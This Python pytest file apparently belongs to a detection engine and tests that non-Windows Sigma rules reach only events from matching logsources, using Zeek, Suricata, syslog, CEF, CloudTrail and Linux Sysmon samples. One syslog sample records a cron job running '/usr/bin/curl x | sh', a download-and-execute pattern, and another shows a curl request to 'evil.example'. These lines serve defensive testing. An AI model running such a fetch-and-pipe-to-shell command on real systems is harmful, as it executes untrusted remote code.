"""A rule outside Windows reaches only the events of its logsource (checklist L1, issue 13).

Each sample below is an event of one kind, shaped as its sensor writes it and read through
the project's own normaliser. Beside it, written by hand, are the logsources (as SigmaHQ
rules spell them: product, service, category) that may see it. Every SigmaHQ rule outside
Windows is then held to that table: it is routed to the sample exactly when its logsource
is listed, and running the whole non-Windows tree over the samples fires only listed rules.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from sigma.rule import SigmaLogSource

from shieldwall.detect.engine import Engine
from shieldwall.detect.sigma.loader import RuleSet, load_rules
from shieldwall.detect.sigma.logsource import route_for
from shieldwall.detect.sigma.sources import EventSource, event_source
from shieldwall.model.event import Event, RawRecord, RecordFormat, SourceRef
from shieldwall.normalise import normalise

Logsource = tuple[str | None, str | None, str | None]


def _event(fmt: RecordFormat, payload: dict[str, Any] | str, hint: str = "") -> Event:
    return normalise(RawRecord(SourceRef("sample"), fmt, payload, hint))


ZEEK_BASE = {
    "ts": 1700000000.5,
    "uid": "CHhAvVGS1DHFjwGM9",
    "id.orig_h": "10.0.0.5",
    "id.orig_p": 49152,
    "id.resp_h": "10.0.0.53",
    "id.resp_p": 53,
}
SAMPLES: dict[str, tuple[Event, set[Logsource]]] = {
    "zeek-dns-aaaa": (
        _event(
            "zeek",
            {
                **ZEEK_BASE,
                "proto": "udp",
                "query": "aaa.example.org",
                "qtype_name": "AAAA",
                "rcode_name": "NOERROR",
            },
            "dns",
        ),
        {("zeek", "dns", None), (None, None, "dns")},
    ),
    "zeek-rdp": (
        _event("zeek", {**ZEEK_BASE, "cookie": "admin", "result": "Success"}, "rdp"),
        {("zeek", "rdp", None)},
    ),
    "zeek-x509": (
        _event(
            "zeek", {"ts": 1700000000.5, "id": "FgB2Hk1", "certificate.subject": "CN=x"}, "x509"
        ),
        {("zeek", "x509", None)},
    ),
    "zeek-http": (
        _event(
            "zeek",
            {
                **ZEEK_BASE,
                "method": "GET",
                "host": "evil.example",
                "uri": "/a.php",
                "user_agent": "curl/8.0",
            },
            "http",
        ),
        {("zeek", "http", None), (None, None, "proxy"), (None, None, "webserver")},
    ),
    "zeek-conn": (
        _event("zeek", {**ZEEK_BASE, "proto": "tcp", "service": "ssl", "conn_state": "SF"}, "conn"),
        {(None, None, "firewall")},
    ),
    "zeek-smb-files": (
        _event(
            "zeek",
            {**ZEEK_BASE, "action": "SMB::FILE_OPEN", "name": "x.exe", "path": "\\\\host\\ADMIN$"},
            "smb_files",
        ),
        {("zeek", "smb_files", None)},
    ),
    "suricata-dns": (
        _event(
            "suricata",
            {
                "timestamp": "2024-05-01T10:00:00.000000+0000",
                "event_type": "dns",
                "src_ip": "10.0.0.5",
                "dest_ip": "10.0.0.53",
                "dns": {"type": "query", "rrname": "aaa.example.org", "rrtype": "AAAA"},
            },
        ),
        {(None, None, "dns")},
    ),
    "suricata-alert": (
        _event(
            "suricata",
            {
                "timestamp": "2024-05-01T10:00:00.000000+0000",
                "event_type": "alert",
                "src_ip": "10.0.0.5",
                "dest_ip": "203.0.113.9",
                "alert": {"signature": "ET POLICY curl User-Agent", "signature_id": 2013028},
            },
        ),
        set(),
    ),
    "suricata-tls": (
        _event(
            "suricata",
            {
                "timestamp": "2024-05-01T10:00:00.000000+0000",
                "event_type": "tls",
                "tls": {"subject": "CN=rdp", "sni": "x"},
            },
        ),
        set(),
    ),
    "syslog-sshd": (
        _event(
            "syslog",
            "<38>Nov  1 10:00:00 web1 sshd[4242]: Failed password for root from "
            "203.0.113.9 port 50000 ssh2",
        ),
        {
            ("linux", None, None),
            ("linux", "sshd", None),
            ("linux", "auth", None),
            ("linux", "syslog", None),
        },
    ),
    "syslog-cron": (
        _event("syslog", "Nov  1 10:00:00 web1 CRON[99]: (root) CMD (/usr/bin/curl x | sh)"),
        {("linux", None, None), ("linux", "cron", None), ("linux", "syslog", None)},
    ),
    "syslog-cisco-aaa": (
        _event(
            "syslog",
            "<189>Nov  1 10:00:00 rtr1 123: *Nov  1 10:00:00: %AAA-6-ACCT: "
            "user admin: command: show running-config",
        ),
        {("cisco", "syslog", None), ("cisco", "aaa", None)},
    ),
    "cef-proxy": (
        _event(
            "cef",
            "CEF:0|Zscaler|NSSWeblog|5.7|Allowed|Allowed|3|act=Allowed src=10.0.0.5 "
            "dst=203.0.113.9 dpt=443 request=https://files.example/a.exe requestMethod=GET",
        ),
        {("zscaler", None, None), ("nssweblog", None, None), (None, None, "proxy")},
    ),
    "cef-firewall": (
        _event(
            "cef",
            "CEF:0|Fortinet|Fortigate|7.2|13|traffic:forward accept|3|act=accept "
            "src=10.0.0.5 spt=50000 dst=203.0.113.9 dpt=23 proto=6",
        ),
        {("fortinet", None, None), ("fortigate", None, None), (None, None, "firewall")},
    ),
    "json-cloudtrail": (
        _event(
            "json",
            {
                "eventVersion": "1.08",
                "eventSource": "iam.amazonaws.com",
                "eventName": "CreateAccessKey",
                "awsRegion": "us-east-1",
                "eventTime": "2024-05-01T10:00:00Z",
                "userIdentity": {"type": "IAMUser"},
            },
        ),
        {("aws", "cloudtrail", None)},
    ),
    "json-ecs-linux-process": (
        _event(
            "json",
            {
                "@timestamp": "2024-05-01T10:00:00Z",
                "event": {"category": ["process"], "type": ["start"], "dataset": "auditd.log"},
                "host": {"os": {"type": "linux"}},
                "process": {"executable": "/usr/bin/curl", "command_line": "curl x"},
            },
        ),
        {("linux", None, "process_creation"), ("linux", None, None)},
    ),
    "auditd-execve": (
        _event(
            "auditd",
            'type=SYSCALL msg=audit(1717243512.381:2041): syscall=59 exe="/usr/bin/id"\n'
            'type=EXECVE msg=audit(1717243512.381:2041): argc=1 a0="id"',
        ),
        {("linux", "auditd", None), ("linux", None, None)},
    ),
    **{
        f"sysmon-linux-{event_id}": (
            _event(
                "sysmon_linux",
                f"<Event><System><EventID>{event_id}</EventID><Channel>Linux-Sysmon/Operational"
                '</Channel></System><EventData><Data Name="Image">/usr/bin/aaa</Data>'
                '<Data Name="DestinationIp">10.0.0.9</Data>'
                '<Data Name="TargetFilename">/tmp/aaa</Data></EventData></Event>',
            ),
            {("linux", None, category), ("linux", None, None), ("linux", "sysmon", None)},
        )
        for event_id, category in (
            (1, "process_creation"),
            (3, "network_connection"),
            (11, "file_event"),
            (5, None),
        )
    },
    "json-plain": (
        _event("json", {"@timestamp": "2024-05-01T10:00:00Z", "message": "aaa AAAA ssh failure"}),
        set(),
    ),
}


@pytest.fixture(scope="module")
def outside_windows(corpus_dir: Path) -> RuleSet:
    ruleset = load_rules([corpus_dir / "sigma"])
    ruleset.rules[:] = [rule for rule in ruleset.rules if not rule.route.windows]
    return ruleset


def _logsource(wanted: tuple[str, str, str]) -> Logsource:
    product, service, category = wanted
    return (product or None, service or None, category or None)


@pytest.mark.corpus
@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_each_rule_outside_windows_routes_only_where_it_belongs(
    outside_windows: RuleSet, name: str
) -> None:
    event, allowed = SAMPLES[name]
    source = event_source(event)
    wrong = sorted(
        f"{rule.title} {_logsource(rule.route.wanted)}"
        for rule in outside_windows.rules
        if rule.route.admits(source) != (_logsource(rule.route.wanted) in allowed)
    )
    assert wrong == [], (name, source)


@pytest.mark.corpus
def test_the_tree_fires_only_rules_of_each_events_logsource(outside_windows: RuleSet) -> None:
    assert len(outside_windows.rules) > 700  # the whole non-Windows tree is here
    engine = Engine(outside_windows)
    by_id = {rule.rule_id: rule for rule in outside_windows.rules}
    for name, (event, allowed) in SAMPLES.items():
        for detection in engine.match(event):
            logsource = _logsource(by_id[detection.rule_id].route.wanted)
            assert logsource in allowed, (name, detection.rule_title, logsource)


def test_the_examples_of_the_issue_are_closed() -> None:
    """A Zeek RDP rule never sees Suricata or x509 records; a Cisco keyword, no DNS query."""
    zeek_rdp = {"product": "zeek", "service": "rdp"}
    cisco = {"product": "cisco", "service": "aaa"}
    for name in ("suricata-alert", "suricata-tls", "zeek-x509"):
        assert not _admits(zeek_rdp, event_source(SAMPLES[name][0])), name
    for name in ("zeek-dns-aaaa", "suricata-dns"):
        assert not _admits(cisco, event_source(SAMPLES[name][0])), name


def _admits(logsource: dict[str, str], source: EventSource) -> bool:

    return route_for(SigmaLogSource(**logsource)).admits(source)


def test_a_sensor_can_declare_the_logsource_of_a_shape_that_does_not_say() -> None:
    plain = SAMPLES["json-plain"][0]
    assert event_source(plain) == EventSource()
    declared = Event(
        plain.fields, plain.source, extra={"logsource": {"product": "linux", "service": ["auth"]}}
    )
    assert event_source(declared) == EventSource(frozenset({"linux"}), frozenset({"auth"}))
